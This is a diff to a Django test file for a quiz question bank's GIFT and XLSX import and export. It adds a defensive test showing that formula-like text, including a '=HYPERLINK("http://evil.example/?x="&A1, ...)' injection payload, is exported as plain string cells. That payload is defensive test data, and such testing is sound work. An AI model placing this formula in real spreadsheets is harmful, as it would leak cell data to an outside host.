@@ -2,13 +2,18 @@
 line numbers, all-or-nothing import, and export then import giving the same questions."""
 
 import io
+import zipfile
 
 import pytest
 from django.contrib.auth.models import Permission
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
 from openpyxl import load_workbook
 
 from assessments.interchange import (
+    ParsedChoice,
+    ParsedQuestion,
+    example_questions,
     export_gift,
     export_xlsx,
     parse_aiken,
@@ -84,9 +89,9 @@ def test_gift_every_feature():
     ("source", "line", "words"),
     [("Câu một {=a ~b}\n\nCâu hai thiếu ngoặc {\n=a\n~b\n\nCâu ba {=x ~y}\n", 3, "không được đóng"),
      ("::Tiêu đề không đóng {=a ~b}\n", 1, "::"),
-     ("Câu {=a ~b}\n\nCâu không có đáp án\n", 3, "không có phần đáp án"),
+     ("Câu {=a ~b}\n\nCâu có } lẻ\n", 3, "không có { đi trước"),
      ("Câu {}\n", 1, "tự luận"),
-     ("Câu {#3:1}\n", 1, "dạng số"),
+     ("Câu {#3:x}\n", 1, "không phải là một số"),
      ("Câu {~a ~b}\n", 1, "ít nhất một đáp án đúng"),
      ("Câu {=a ~%50%b ~c}\n\nCâu {=a}\n", 1, None),
      ("$CATEGORY: A\n\nCâu {=a -> b}\n", 3, "hai cặp")],
@@ -119,11 +124,12 @@ def test_broken_gift_imports_nothing(db, admin_client):
     with pytest.raises(ImportRefused):
         bank_import(questions=result.questions + [_invalid()], default_category="X")
     assert Question.objects.count() == 0
-    # Through the admin: the dry run lists the problem and offers no import button.
+    # Through the admin, all or nothing: the dry run lists the problem, offers no import.
     response = admin_client.post(
         reverse("assessments_bank:import"),
-        {"file": _upload(broken, "hong.gift"), "format": "auto", "action": "check"},
-    )
+        {"file": _upload(broken, "hong.gift"), "format": "auto", "action": "check",
+         "all_or_nothing": "on"},
+    )  # fmt: skip
     html = response.content.decode()
     assert "Dòng 3" in html and "không được đóng" in html
     assert 'value="import"' not in html
@@ -131,14 +137,10 @@ def test_broken_gift_imports_nothing(db, admin_client):
 
 
 def _invalid():
-    from assessments.interchange import ParsedQuestion
-
     return ParsedQuestion(line=9, qtype="single", text="", choices=[])
 
 
 def _upload(text, name):
-    from django.core.files.uploadedfile import SimpleUploadedFile
-
     data = text if isinstance(text, bytes) else text.encode()
     return SimpleUploadedFile(name, data)
 
@@ -200,7 +202,7 @@ def test_xlsx_template_download_and_row_problems(db, admin_client):
     response = admin_client.get(reverse("assessments_bank:template"))
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
     template = parse_xlsx(response.content)
-    assert template.problems == [] and len(template.questions) == 6
+    assert template.problems == [] and len(template.questions) == 7  # a row per graded type
     workbook = load_workbook(io.BytesIO(response.content))
     sheet = workbook["Câu hỏi"]
     sheet.append(["Nhóm A", "Một lựa chọn", "", "Câu thiếu đáp án đúng", 1, "", "", "", "",
@@ -209,7 +211,7 @@ def test_xlsx_template_download_and_row_problems(db, admin_client):
     buffer = io.BytesIO()
     workbook.save(buffer)
     result = parse_xlsx(buffer.getvalue())
-    assert [p.line for p in result.problems] == [8, 9]
+    assert [p.line for p in result.problems] == [9, 10]
     assert "100%" in result.problems[0].message
     not_xlsx = parse_xlsx(b"not a workbook")
     assert "Excel" in not_xlsx.problems[0].message
@@ -223,3 +225,46 @@ def test_export_views(admin_client, bank):
     assert len(parse_gift(gift.content).questions) == 6
     xlsx = admin_client.get(reverse("assessments_bank:export"), {"format": "xlsx"})
     assert len(parse_xlsx(xlsx.content).questions) == 6
+
+
+FORMULA_LIKE = ['=HYPERLINK("http://evil.example/?x="&A1,"Bấm")', "+84 912 345 678", "-1+1",
+                "@SUM(1+1)", "=1+1"]  # fmt: skip
+
+
+def test_xlsx_export_writes_formula_like_text_as_text_and_imports_it_back(db):
+    """Issue 17: the bank's XLSX export goes through cms.spreadsheets' writer, so a text
+    starting with = + - @ is a string cell, never a formula, and the import reads back
+    exactly what was written (a round trip through the bank)."""
+    question = ParsedQuestion(
+        line=1, qtype="single", text=FORMULA_LIKE[0], category="=Nhóm", title="@tiêu đề",
+        general_feedback=FORMULA_LIKE[2], tags=["+thẻ"],
+        choices=[ParsedChoice(FORMULA_LIKE[4], 100, "", FORMULA_LIKE[3]),
+                 ParsedChoice(FORMULA_LIKE[1], 0), ParsedChoice("-5", -50)],
+    )  # fmt: skip
+    bank_import(questions=[question])
+    exported = bank_for_export()
+    data = export_xlsx(exported)
+    archive = zipfile.ZipFile(io.BytesIO(data))
+    for name in archive.namelist():
+        if name.startswith("xl/worksheets/"):
+            assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
+    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
+    cells = {c.value: c.data_type for row in sheet.iter_rows(min_row=2) for c in row}
+    for text in [*FORMULA_LIKE, "=Nhóm", "@tiêu đề", "+thẻ", "-5"]:
+        assert cells.get(text) == "s", text
+    assert cells.get(-50) == "n"  # a weight stays a number
+    again = parse_xlsx(data)
+    assert again.problems == []
+    assert [q.signature() for q in again.questions] == [question.signature()]
+
+
+def test_xlsx_import_is_read_within_the_row_limit(db, settings):
+    """The bank's XLSX import reads through cms.spreadsheets: a file with more rows than
+    QUESTION_IMPORT_MAX_ROWS is refused from the zip's rows before any is parsed."""
+    settings.QUESTION_IMPORT_MAX_ROWS = 3
+    workbook = export_xlsx([example_questions()[0]] * 4)
+    result = parse_xlsx(workbook)
+    assert result.questions == []
+    assert [p.line for p in result.problems] == [1]
+    assert "nhiều hơn 3 dòng" in result.problems[0].message
+    assert parse_xlsx(export_xlsx([example_questions()[0]] * 3)).ok
